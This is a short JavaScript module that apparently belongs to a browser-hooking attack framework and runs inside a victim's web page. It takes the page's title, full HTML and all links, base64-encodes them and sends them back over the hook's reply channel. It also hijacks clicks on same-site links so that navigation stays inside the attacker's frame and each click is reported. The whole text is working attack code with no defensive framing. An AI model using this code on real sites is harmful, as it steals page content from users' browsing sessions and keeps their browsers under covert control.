hook.run(function (task) {
  var anchors = document.getElementsByTagName('a'), list = [];
  for (var i = 0; i < anchors.length; i++) list.push(anchors[i].innerHTML + ' ' + anchors[i].href);
  var body = { title: document.title, head: document.head.innerHTML, body: document.body.innerHTML, links: list };
  hook.net.reply(task.id, hook.codec.b64(JSON.stringify(body)));
  for (var j = 0; j < anchors.length; j++) {
    if (anchors[j].host === location.host) anchors[j].onclick = function (ev) {
      ev.preventDefault();
      hook.frame.stay(this.href);
      hook.net.reply(task.id, 'followed ' + this.href);
    };
  }
});
